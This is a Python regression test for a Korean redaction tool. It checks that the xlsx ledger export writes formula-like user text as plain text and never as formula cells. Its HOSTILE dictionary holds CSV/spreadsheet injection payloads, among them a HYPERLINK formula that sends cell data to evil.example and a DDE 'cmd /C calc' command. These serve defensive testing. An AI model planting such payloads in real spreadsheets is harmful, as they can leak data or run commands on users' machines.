"""User text is never a formula in the 별지 2호 xlsx export (issue 20: a provision's agency `=HYPERLINK(...)` became a
live formula cell). Real SQLite, the real ledger, the CLI export, read back with openpyxl."""

from __future__ import annotations

import os
import subprocess
import sys
import zipfile

from openpyxl import load_workbook

from redactor.documents.sheets import FORMULA_START

HOSTILE = {
    "party": '=HYPERLINK("http://evil.example/?"&A1,"경찰서")',
    "purpose": "+cmd|' /C calc'!A0",
    "officer": "@SUM(1+1)",
    "file": "-2+3 / MP4",
    "form": "\t=1+1",
    "period": "\r=2+2",
}


def test_xlsx_export_keeps_formula_like_text_as_text(tmp_path):
    home, url = tmp_path / "home", f"sqlite:///{tmp_path / 'l.db'}"
    env = {**{k: v for k, v in os.environ.items() if not k.startswith("REDACTOR_")}, "REDACTOR_HOME": str(home),
           "REDACTOR_DB": url}
    cli = [sys.executable, "-m", "redactor"]
    assert subprocess.run([*cli, "db", "upgrade"], env=env, capture_output=True).returncode == 0
    script = ("from redactor.db import session_scope\n"
              "from redactor.ledger.service import Ledger, Personal\n"
              "with session_scope() as s:\n"
              f"    Ledger().append(s, '제공', basis='지침 제32조제1항제6호', personal=Personal('=1+1', ''),\n"
              f"                    **{HOSTILE!r})\n"
              "    Ledger().append(s, '열람', file='plain.mp4', officer='clerk', purpose='본인 확인', party='본인')\n")
    r = subprocess.run([*cli[:1], "-c", script], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    out = tmp_path / "L.xlsx"
    r = subprocess.run([*cli, "ledger", "export", "--format", "xlsx", "-o", str(out), "--with-personal"], env=env,
                       capture_output=True, text=True)
    assert r.returncode == 0, r.stderr

    ws = load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell in the export"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for field, value in HOSTILE.items():  # kept as written, not altered nor dropped (the party with the name)
        value = value.replace("\r", "\n")  # XML reads a raw CR as LF
        assert (f"{value} =1+1" if field == "party" else value) in texts, field
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert len(risky) == len(HOSTILE) - 1 and all(c.quotePrefix for c in risky)  # editing keeps them text
    with zipfile.ZipFile(out) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
